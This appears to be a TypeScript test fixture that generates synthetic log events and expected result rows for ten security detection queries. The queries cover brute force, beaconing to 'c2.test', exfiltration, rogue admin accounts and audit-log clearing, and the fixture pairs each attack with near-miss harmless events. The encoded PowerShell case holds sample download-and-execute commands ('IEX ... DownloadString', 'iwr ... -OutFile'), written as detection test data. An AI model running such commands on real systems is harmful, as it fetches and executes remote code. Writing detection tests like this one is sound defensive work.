import fc from 'fast-check';
import type { Fields } from '../../src/engine/index.ts';
import { cases } from '../helpers/laws.ts';

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
/** The events are of thirty days. */
export const NOW = Date.UTC(2026, 2, 3);
const START = NOW - 30 * DAY;
/** The start of the attacks, except that of the new value, which is on the last day. */
const T = NOW - 3 * DAY;

type Values = Readonly<Record<string, string | number>>;

interface Attack {
  readonly events: readonly Fields[];
  /** Events that nearly are an attack. */
  readonly harmless: readonly Fields[];
  /** What the query must return for all events of all attacks. */
  readonly rows: readonly Values[];
}

/** Fields of a result, and of an event, are strings. */
export const textsOf = (values: object): Fields =>
  Object.fromEntries(Object.entries(values).map(([name, value]) => [name, String(value)]));

function maker(common: (user: string) => Values) {
  return (time: number, user: string, more: Values = {}): Fields =>
    textsOf({ '@timestamp': time, 'user.name': user, 'host.name': `pc-${user}`, ...common(user), ...more });
}

const CPH = '198.51.100.1';
const MALMO = '198.51.100.2';
const NEW_YORK = '198.51.100.3';
export const LOCATIONS: ReadonlyMap<string, { latitude: number; longitude: number }> = new Map([
  [CPH, { latitude: 55.68, longitude: 12.57 }],
  [MALMO, { latitude: 55.6, longitude: 13 }],
  [NEW_YORK, { latitude: 40.71, longitude: -74.01 }],
]);

const success = maker(() => authentication('success'));
const failure = maker(() => authentication('failure'));
const connection = maker(() => ({
  'event.category': 'network',
  'destination.domain': 'example.com',
  'destination.ip': '203.0.113.9',
  'source.bytes': 2000,
}));
const launch = maker(() => ({
  'event.category': 'process',
  'event.outcome': 'success',
  'process.name': 'cmd.exe',
}));
const created = maker((user) => account('added-user-account', user));
const joined = maker((user) => ({
  ...account('added-member-to-group', user),
  'group.name': 'Domain Admins',
}));
const clearing = maker(() => ({ 'event.action': 'audit-log-cleared' }));

function authentication(outcome: string): Values {
  return { 'event.category': 'authentication', 'event.outcome': outcome, 'source.ip': CPH };
}

function account(action: string, target: string): Values {
  return {
    'event.category': 'iam',
    'event.action': action,
    'event.outcome': 'success',
    'user.name': 'root',
    'user.target.name': target,
  };
}

function powershell(command: string): Values {
  const encoded = Buffer.from(command, 'utf16le').toString('base64');
  return { 'process.command_line': `PowerShell.exe -NoProfile -Enc ${encoded}` };
}

/** `count` events with a pause between them. */
function every(pause: number, count: number, make: (time: number, index: number) => Fields): Fields[] {
  return Array.from({ length: count }, (_, index) => make(T + index * pause, index));
}

/** By the heading of the query. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  '1. Brute force': {
    events: every(SECOND, 25, (time, i) => failure(time, `guess${i % 7}`, { 'source.ip': '203.0.113.1' })),
    // As many failures in a day, some in a minute, many successes.
    harmless: [
      ...every(HOUR, 24, (time) => failure(time, 'kiosk', { 'source.ip': '203.0.113.2' })),
      ...every(SECOND, 12, (time) => failure(time, 'office', { 'source.ip': '203.0.113.3' })),
      ...every(SECOND, 30, (time) => success(time, 'script', { 'source.ip': '203.0.113.4' })),
    ],
    rows: [{ 'source.ip': '203.0.113.1', interval: T, failures: 25, users: 7 }],
  },
  '2. Failures, then a success': {
    events: every(MINUTE, 7, (time, i) => (i < 6 ? failure : success)(time, 'eva')),
    // Typing errors, failures an hour before, failures of another user.
    harmless: [
      ...every(MINUTE, 4, (time, i) => (i < 3 ? failure : success)(time, 'typist')),
      ...every(MINUTE, 6, (time) => failure(time, 'late')),
      success(T + HOUR, 'late'),
      success(T + 30 * SECOND, 'other'),
    ],
    rows: [{ '@timestamp': T + 6 * MINUTE, 'user.name': 'eva', 'source.ip': CPH, failures: 6 }],
  },
  '3. Rare value': {
    events: every(HOUR, 2, (time) => launch(time, 'ann', { 'process.name': 'Mimi.exe' })),
    // Often on one computer, rarely on two, in another case.
    harmless: [
      ...every(HOUR, 9, (time) => launch(time, 'ann', { 'process.name': 'backup.exe' })),
      launch(T, 'ann', { 'process.name': 'setup.exe' }),
      launch(T, 'bob', { 'process.name': 'SETUP.EXE' }),
    ],
    rows: [{ process: 'mimi.exe', starts: 2, hosts: 1, 'host.name': 'pc-ann' }],
  },
  '4. New value': {
    events: [success(NOW - HOUR, 'bob', { 'host.name': 'dc1' })],
    // The usual computer, one of some days before, a failure, another event.
    harmless: [
      success(NOW - HOUR, 'cleo'),
      success(NOW - 2 * DAY, 'cleo', { 'host.name': 'dc1' }),
      failure(NOW - HOUR, 'dan', { 'host.name': 'dc1' }),
      created(NOW - HOUR, 'intern'),
    ],
    rows: [{ 'user.name': 'bob', 'host.name': 'dc1', firstSeen: NOW - HOUR }],
  },
  '5. Beaconing': {
    events: every(MINUTE, 31, (time, i) =>
      connection(time + (i % 2) * SECOND, 'bob', {
        'source.ip': '10.0.0.9',
        'destination.domain': 'c2.test',
      }),
    ),
    // Few regular connections, many irregular ones.
    harmless: [
      ...every(MINUTE, 10, (time) => connection(time, 'bob', { 'source.ip': '10.0.0.8' })),
      ...every(MINUTE, 60, (time, i) =>
        connection(time + (i % 2) * 20 * SECOND, 'bob', { 'source.ip': '10.0.0.7' }),
      ),
    ],
    rows: [
      {
        'source.ip': '10.0.0.9',
        'destination.domain': 'c2.test',
        pauses: 30,
        mean: MINUTE,
        deviation: SECOND,
      },
    ],
  },
  '6. Impossible travel': {
    events: [success(T, 'dan'), success(T + HOUR, 'dan', { 'source.ip': NEW_YORK })],
    // A flight, two networks of one region, a failure elsewhere.
    harmless: [
      success(T, 'pilot'),
      success(T + 9 * HOUR, 'pilot', { 'source.ip': NEW_YORK }),
      success(T, 'commuter'),
      success(T + SECOND, 'commuter', { 'source.ip': MALMO }),
      success(T, 'expat', { 'source.ip': NEW_YORK }),
      failure(T + HOUR, 'expat'),
    ],
    rows: [{ '@timestamp': T + HOUR, 'user.name': 'dan', 'last.source.ip': CPH, 'source.ip': NEW_YORK }],
  },
  '7. Exfiltration': {
    events: every(HOUR, 4, (time) =>
      connection(time, 'ida', { 'source.bytes': 400_000_000, 'destination.domain': 'drop.test' }),
    ),
    // Much to the own network, little to others.
    harmless: [
      connection(T, 'backup', { 'source.bytes': 9_000_000_000, 'destination.ip': '10.1.2.3' }),
      ...every(HOUR, 9, (time) => connection(time, 'max', { 'source.bytes': 100_000_000 })),
    ],
    rows: [{ 'user.name': 'ida', bytes: 1_600_000_000, 'destination.domain': 'drop.test' }],
  },
  '8. Administrator created': {
    events: [created(T, 'ghost'), joined(T + MINUTE, 'ghost')],
    // An older account, a group without rights, a group joined before, other actions.
    harmless: [
      created(T, 'promoted'),
      joined(T + 2 * HOUR, 'promoted'),
      created(T, 'hire'),
      joined(T + MINUTE, 'hire', { 'group.name': 'Sales' }),
      joined(T + MINUTE, 'boss'),
      created(T + 2 * MINUTE, 'boss'),
      created(T, 'renamed', { 'event.action': 'renamed-user-account' }),
      joined(T + MINUTE, 'renamed'),
      created(T, 'guest'),
      joined(T + MINUTE, 'guest', { 'event.action': 'removed-member-from-group' }),
    ],
    rows: [
      {
        '@timestamp': T,
        'created.@timestamp': T,
        'created.user.name': 'root',
        'created.user.target.name': 'ghost',
        'joined.@timestamp': T + MINUTE,
        'joined.user.target.name': 'ghost',
        'joined.group.name': 'Domain Admins',
      },
    ],
  },
  '9. Encoded command line': {
    events: [
      launch(T, 'bob', powershell('IEX $client.DownloadString($address)')),
      launch(T + 1, 'bob', powershell('iwr https://x.test -OutFile x')),
    ],
    // A harmless command, a download that anyone can read.
    harmless: [
      launch(T, 'bob', powershell('Get-Date | Out-File date.txt')),
      launch(T, 'bob', {
        'process.command_line': 'powershell -ExecutionPolicy RemoteSigned -c iwr https://example.com/',
      }),
    ],
    rows: ['iwr https://x.test -OutFile x', 'IEX $client.DownloadString($address)'].map((command, i) => ({
      '@timestamp': T + 1 - i,
      'host.name': 'pc-bob',
      'user.name': 'bob',
      command,
    })),
  },
  '10. Severity': {
    events: [clearing(T, 'svc-x', { 'host.name': 'DC1' }), clearing(T + 1, 'ann')],
    harmless: [clearing(T, 'svc-x'), clearing(T, 'ann', { 'event.action': 'audit-log-read' })],
    rows: [
      { '@timestamp': T + 1, 'host.name': 'pc-ann', 'user.name': 'ann', severity: 'medium' },
      { '@timestamp': T, 'host.name': 'DC1', 'user.name': 'svc-x', severity: 'critical' },
    ],
  },
};

/** What users do on all days, each on the computer and in the city of the first day. */
export function everyday(): Fields[] {
  const users = ['ann', 'bob', 'cleo', 'dan', 'eva'];
  const first = users.flatMap((user) => [success(START, user), launch(START, user)]);
  const make = fc.constantFrom<typeof success>(
    success,
    (time, user) => failure(time, user, { 'source.ip': `10.1.0.${time % 200}` }),
    launch,
    (time, user) => connection(time, user, { 'source.ip': `10.0.0.${user.length}` }),
  );
  // The three days of the attacks have none, so that a user never is in two places.
  const time = fc.noBias(fc.integer({ min: START, max: T - DAY }));
  const later = fc.tuple(make, time, fc.constantFrom(...users)).map(([of, at, user]) => of(at, user));
  return [...first, ...fc.sample(later, { ...cases(), numRuns: 400 })];
}
